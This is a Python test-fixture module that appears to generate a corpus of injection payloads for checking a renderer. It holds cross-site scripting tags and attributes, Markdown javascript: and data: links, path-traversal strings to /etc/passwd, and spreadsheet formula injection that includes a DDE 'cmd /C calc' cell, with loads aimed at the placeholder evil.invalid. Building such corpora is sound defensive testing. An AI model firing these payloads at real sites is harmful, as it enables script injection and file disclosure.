"""Texts that would run, load or break out somewhere if a page were careless. Own cases, by shape.

Each payload, if it ran, would open a dialog or ask `https://evil.invalid/` for something.
"""

from itertools import product

CALL = "alert(1)"
LOAD = "https://evil.invalid/x"

TAGS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src={LOAD}></script>",
    f"<script/src='{LOAD}'></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src='{LOAD}'>",
    f"<image href={LOAD}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<math><mtext><img src onerror={CALL}></mtext></math>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data={LOAD}></object>",
    f"<embed src={LOAD}>",
    f"<link rel=stylesheet href={LOAD}>",
    f"<style>@import '{LOAD}';</style>",
    f"<base href={LOAD}>",
    f"<meta http-equiv=refresh content='0;url={LOAD}'>",
    f"<form action={LOAD}><button autofocus onfocus={CALL}>go</button></form>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video src={LOAD} onerror={CALL}></video>",
    f"<audio src onerror={CALL}></audio>",
    f"<body onload={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<template><script>{CALL}</script></template>",
    f"<a href='javascript:{CALL}' autofocus onfocus={CALL}>x</a>",
    f"<p style='background:url({LOAD})'>x</p>",
    f"<x tabindex=1 autofocus onfocus={CALL}>",
)
BREAKS = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "</textarea>{}",
    "-->{}",
    "]]>{}",
    "<!--{}",
    "&lt;{}",
    "{{{{7*7}}}}{{% raw %}}{}",
)
ATTRIBUTES = tuple(
    f"{quote}{gap}{handler}={quote}{CALL}{quote}{gap}x={quote}"
    for quote, gap, handler in product(
        ('"', "'", "`", ""),
        (" ", "/", "\u2028"),
        ("onmouseover", "onfocus autofocus onfocus", "onload"),
    )
)
MARKDOWN = (
    f"[x](javascript:{CALL})",
    f"[x](JaVaScRiPt:{CALL})",
    f"[x](&#106;avascript:{CALL})",
    f"[x](java\tscript:{CALL})",
    f"[x](<javascript:{CALL}>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{CALL})",
    "[x](file:///etc/passwd)",
    f"[x]({LOAD} \"' onmouseover={CALL} x='\")",
    f"![x]({LOAD})",
    f"![x](javascript:{CALL})",
    f'![" onerror={CALL} x="](y.png)',
    "![x](//evil.invalid/x)",
    f"<javascript:{CALL}>",
    f'<{LOAD}" onmouseover={CALL}>',
    f"[x]: javascript:{CALL}\n\n[x]",
    f"[^1]\n\n[^1]: <img src=x onerror={CALL}>",
    f'```"><img src=x onerror={CALL}>\n```',
    f"``` </code><script>{CALL}</script>\nx\n```",
    f"# <img src=x onerror={CALL}>",
    f"> <svg onload={CALL}>",
    f"| a |\n| --- |\n| <img src=x onerror={CALL}> |",
    f"- <details open ontoggle={CALL}>",
    "\ufdd0javascript:alert(1)",
    "[x](\ufdd0/../../evil)",
    "![x](../../../../etc/passwd)",
    "![x](..%2f..%2fsitegen.yaml)",
)
SPREADSHEETS = (
    '=HYPERLINK("https://evil.invalid/x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
)
UNICODE = (
    "\u202ereversed\u202c",
    "\u2066isolated",
    "nul\x00byte",
    "\ufeffmark",
    "\ud7ff\ue000private",
    "a\u0301" * 40,
    "\x1b[31mred\x07",
    "line\u2028separator",
)

PAYLOADS: tuple[str, ...] = (
    *(wrap.format(tag) for wrap, tag in product(BREAKS[:8], TAGS)),
    *(wrap.format(TAGS[0]) for wrap in BREAKS[8:]),
    *ATTRIBUTES,
    *MARKDOWN,
    *SPREADSHEETS,
    *UNICODE,
)
